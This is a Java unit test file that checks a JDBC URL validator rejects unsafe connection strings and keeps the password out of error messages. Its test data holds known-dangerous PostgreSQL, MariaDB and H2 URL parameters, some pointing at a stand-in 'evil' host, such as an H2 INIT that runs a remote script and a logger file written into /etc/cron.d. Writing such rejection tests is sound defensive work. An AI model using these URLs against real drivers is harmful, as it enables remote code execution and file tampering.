package io.codomyrmex.rollout.store.jdbc;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.codomyrmex.rollout.StoreUnavailableException;
import io.codomyrmex.rollout.store.RolloutStores;
import java.io.PrintWriter;
import java.io.StringWriter;
import java.util.Map;
import java.util.Properties;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** What a URL of a server may say, and what no message repeats. */
class ServerUrlTest {

    private static final String SECRET = "hunter2";

    @ParameterizedTest
    @ValueSource(
            strings = {
                // A class of the attacker's choice is loaded, with an argument of the attacker's choice.
                "jdbc:postgresql://db/app?socketFactory=javax.naming.ldap.X&password=hunter2",
                "jdbc:postgresql://db/app?password=hunter2&socketFactory=x",
                "jdbc:postgresql://db/app?socketFactoryArg=http://evil",
                "jdbc:postgresql://db/app?sslfactory=x&sslfactoryarg=y",
                "jdbc:postgresql://db/app?sslhostnameverifier=x",
                "jdbc:postgresql://db/app?sslpasswordcallback=x",
                "jdbc:postgresql://db/app?authenticationPluginClassName=x",
                "jdbc:postgresql://db/app?xmlFactoryFactory=x",
                "jdbc:postgresql://db/app?connectExecutor=x",
                "jdbc:postgresql://db/app?jaasLogin=true",
                // A file is written or read.
                "jdbc:postgresql://db/app?loggerFile=/etc/cron.d/x&loggerLevel=TRACE",
                "jdbc:postgresql://db/app?service=x",
                // The session means something else than the store thinks.
                "jdbc:postgresql://db/app?options=-c%20search_path=x",
                "jdbc:postgresql://db/app?autosave=always",
                "jdbc:postgresql://db/app?preferQueryMode=simple",
                "jdbc:postgresql://db/app?SSLMODE=disable",
                "jdbc:mariadb://db/app?autoDeserialize=true",
                "jdbc:mariadb://db/app?allowLoadLocalInfile=true",
                "jdbc:mariadb://db/app?allowLocalInfile=true",
                "jdbc:mariadb://db/app?allowUrlInLocalInfile=true",
                "jdbc:mariadb://db/app?socketFactory=x",
                "jdbc:mariadb://db/app?credentialType=x",
                "jdbc:mariadb://db/app?tlsSocketType=x",
                "jdbc:mariadb://db/app?initSql=DROP",
                "jdbc:mariadb://db/app?sessionVariables=sql_mode=''",
                "jdbc:mariadb://db/app?createDatabaseIfNotExist=true",
                "jdbc:mariadb://db/app?allowMultiQueries=true",
                "jdbc:mariadb://db/app?dumpQueriesOnException=true",
                "jdbc:mariadb://db/app?localSocket=/tmp/x",
                "jdbc:mariadb://db/app?queryInterceptors=x",
                // Not of the form, or of another database.
                "jdbc:postgresql:app",
                "jdbc:postgresql://db",
                "jdbc:postgresql://db/",
                "jdbc:postgresql:///app",
                "jdbc:postgresql://db/app/more",
                "jdbc:postgresql://db/app?",
                "jdbc:postgresql://db/app?user",
                "jdbc:postgresql://db/app?user=a&user=b",
                "jdbc:postgresql://db:port/app",
                "jdbc:postgresql://ann:hunter2@db/app",
                "jdbc:postgresql://db/app;password=hunter2",
                "jdbc:postgresql://db/app?password=hun%ter2hunter2",
                "jdbc:postgresql://db/app?password=x&hunter2",
                "jdbc:postgresql://db/app?user=ann&password=x&hunter2=y",
                "jdbc:postgresql://db/app?pass-hunter2-word=x",
                "jdbc:mariadb:replication://db/app",
                "jdbc:mariadb://address=(host=db)(port=1)/app",
                "jdbc:mariadb://ann:hunter2@db/app",
                "jdbc:mysql://db/app?password=hunter2",
                "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil'",
            })
    void aUrlThatIsNotKnownToDoNoHarmIsRefusedWithoutASecret(String url) {
        for (Throwable refusal : new Throwable[] {
            assertThrows(IllegalArgumentException.class, () -> RolloutStores.open(url)),
            assertThrows(IllegalArgumentException.class, () -> JdbcSchema.validate(url)),
            assertThrows(IllegalArgumentException.class, () -> JdbcSchema.migrate(url))
        }) {
            assertTrue(refusal.getMessage().startsWith("store: "), refusal::getMessage);
            assertSaysNoSecret(refusal);
        }
    }

    @Test
    void aParameterThatIsNotAllowedIsNamedTogetherWithThoseThatAre() {
        IllegalArgumentException refusal = assertThrows(
                IllegalArgumentException.class, () -> RolloutStores.open("jdbc:mariadb://db/app?autoDeserialize=true"));

        assertEquals(
                "store: the parameter \"autoDeserialize\" of the mariadb URL is not allowed; allowed are connectTimeout, password,"
                        + " serverSslCert, socketTimeout, sslMode, tcpKeepAlive, user",
                refusal.getMessage());
    }

    /** An ampersand in a secret makes a parameter of what stands behind it. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:postgresql://db/app?password=x&hunter",
                "jdbc:postgresql://db/app?sslpassword=x&hunter",
                "jdbc:postgresql://db/app?sslpassword=x&user=ann&hunter=y",
                "jdbc:postgresql://db/app?sslkey=x&hunter=y",
                "jdbc:mariadb://db/app?password=x&hunter=y",
            })
    void whatStandsBehindASecretIsNotNamed(String url) {
        IllegalArgumentException refusal = assertThrows(IllegalArgumentException.class, () -> RolloutStores.open(url));

        assertTrue(refusal.getMessage().startsWith("store: a parameter of the "), refusal::getMessage);
        assertFalse(refusal.getMessage().contains("hunter"), refusal::getMessage);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:postgresql://localhost:1/app?user=ann&password=hunter2",
                "jdbc:postgresql://localhost:1,127.0.0.1:1/app?user=ann&password=hunter2",
                "jdbc:postgresql://localhost:1/app?user=ann&password=hunter2&connectTimeout=hunter",
                "jdbc:postgresql://localhost:1/app?user=ann&password=hunter2&sslmode=nonsense",
                "jdbc:mariadb://localhost:1/app?user=ann&password=hunter2",
                "jdbc:mariadb://localhost:1/app?user=ann&password=hunter2&sslMode=nonsense",
            })
    void aServerThatCannotBeReachedIsNamedWithoutASecret(String url) {
        StoreUnavailableException trouble =
                assertThrows(StoreUnavailableException.class, () -> RolloutStores.open(url));
        StoreUnavailableException looking =
                assertThrows(StoreUnavailableException.class, () -> JdbcSchema.validate(url));

        assertTrue(trouble.getMessage().contains("database app at localhost:1"), trouble::getMessage);
        assertSaysNoSecret(trouble);
        assertSaysNoSecret(looking);
    }

    @Test
    void valuesAreDecoded() {
        ServerUrl url =
                PostgresUrl.parse("jdbc:postgresql://db:5432,[::1]:5433/app?user=ann&password=a%26b%25+%C3%BC€");

        assertEquals("jdbc:postgresql://db:5432,[::1]:5433/app", url.forDriver());
        assertEquals(Map.of("user", "ann", "password", "a&b%+ü€"), url.parameters());
        assertEquals("primary", PostgresUrl.properties(url).getProperty("targetServerType"));
    }

    @Test
    void whatTheUrlSaysGoesBeforeTheDefaults() {
        Properties properties = PostgresUrl.properties(
                PostgresUrl.parse("jdbc:postgresql://db/app?user=ann&password=x&connectTimeout=7"));

        assertEquals("ann", properties.getProperty("user"));
        assertEquals("x", properties.getProperty("password"));
        assertEquals("7", properties.getProperty("connectTimeout"));
    }

    /** A record says all its parts, unless it is told not to. */
    @Test
    void itsTextHasNoSecret() {
        String text = PostgresUrl.parse("jdbc:postgresql://db/app?user=ann&password=hunter2")
                .toString();

        assertEquals("jdbc:postgresql://db/app", text);
    }

    private static void assertSaysNoSecret(Throwable thrown) {
        StringWriter text = new StringWriter();
        thrown.printStackTrace(new PrintWriter(text));
        assertFalse(text.toString().contains(SECRET), text::toString);
    }
}
